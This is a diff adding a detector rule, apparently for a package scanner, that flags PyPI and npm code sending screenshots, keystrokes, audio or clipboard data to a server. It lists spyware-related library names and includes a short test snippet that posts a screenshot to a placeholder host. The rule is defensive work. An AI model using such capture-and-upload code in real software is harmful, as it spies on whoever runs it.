@@ -1,0 +1,90 @@
+import { deedsOf, flowsBetween } from "../behaviour/trace.ts";
+import type { Detector } from "../detector.ts";
+import { codeWith, sight } from "./_sight.ts";
+
+const WORDS = [
+  "imagegrab",
+  "pyautogui",
+  "mss",
+  "pynput",
+  "keyboard",
+  "getasynckeystate",
+  "setwindowshookex",
+  "videocapture",
+  "sounddevice",
+  "pyaudio",
+  "pyperclip",
+  "iohook",
+  "screenshot",
+] as const;
+const NETWORK = [
+  "requests",
+  "urllib",
+  "socket",
+  "smtplib",
+  "discord",
+  "telebot",
+  "http",
+  "aiohttp",
+  "fetch(",
+  "axios",
+] as const;
+
+export const recordsInput: Detector = {
+  id: "records-input",
+  title: "Sends screenshots, key strokes or the clipboard to a server",
+  severity: "critical",
+  ecosystems: ["pypi", "npm"],
+  points: 5.5,
+  class: "threat",
+  group: "exfiltration",
+  why: `Pictures of the screen or camera, key strokes, sound or the clipboard reach a request, a mail or a socket: the code spies on
+whoever runs it.
+
+Remote-control and testing tools do so openly, on request, and as their stated purpose.`,
+  literals: [...WORDS, ...NETWORK],
+  *detect(tree) {
+    for (const file of codeWith(tree, WORDS)) {
+      if (!NETWORK.some((word) => file.has(word))) continue;
+      for (const { source, sink } of flowsBetween(
+        file,
+        ["screen", "keys", "clipboard"],
+        ["upload", "http", "socket", "mail"],
+      )) {
+        const late = sink.phase === "call" || sink.phase === "none";
+        yield sight(file, sink.offset, `what ${source.what} records is sent by ${sink.what}`, {
+          phase: sink.phase,
+          share: late ? 0.8 : 1,
+        });
+      }
+      const keys = deedsOf(file, "keys")[0];
+      const sends = deedsOf(file, "upload", "mail", "socket")[0];
+      if (keys !== undefined && sends !== undefined) {
+        yield sight(file, keys.offset, `${keys.what} records key strokes in a file that also sends (${sends.what})`, {
+          phase: keys.phase,
+          share: 0.7,
+        });
+      }
+    }
+  },
+  examples: {
+    matches: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/a.py":
+            "import pyautogui, requests\ns = pyautogui.screenshot()\ns.save('a.png')\nrequests.post('http://example.invalid', files={'f': s})\n",
+        },
+      },
+    ],
+    passes: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/a.py":
+            "import pyautogui, requests\ns = pyautogui.screenshot()\nrequests.get('http://example.invalid')\n",
+        },
+      },
+    ],
+  },
+};
